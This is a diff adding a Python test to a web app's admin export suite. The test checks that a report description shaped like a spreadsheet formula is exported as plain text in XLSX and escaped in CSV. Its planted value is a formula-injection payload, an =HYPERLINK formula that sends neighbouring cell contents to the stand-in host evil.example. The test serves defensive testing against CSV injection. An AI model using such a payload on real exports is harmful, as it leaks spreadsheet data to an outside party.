@@ -159,3 +159,18 @@ async def test_xlsx_export_is_a_workbook_with_the_reports(site, site_client):
     response = await site_client.get("/admin/export.xlsx")
     sheet = load_workbook(io.BytesIO(response.content)).active
     assert next(c.value for c in sheet[2]) == code
+
+
+async def test_an_exported_description_that_looks_like_a_formula_stays_text(site, site_client):
+    import io
+
+    from openpyxl import load_workbook
+
+    planted = '=HYPERLINK("http://evil.example/?leak="&A3&B3,"Xem ảnh vỉa hè bị lấn chiếm")'
+    await site.user("gs", "supervisor")
+    await site.report(description=planted)
+    await login(site_client, "gs")
+    sheet = load_workbook(io.BytesIO((await site_client.get("/admin/export.xlsx")).content)).active
+    cells = [c for c in sheet[2] if c.value == planted]
+    assert cells and all(c.data_type == "s" for c in cells)
+    assert "'" + planted.replace('"', '""') in (await site_client.get("/admin/export.csv")).text
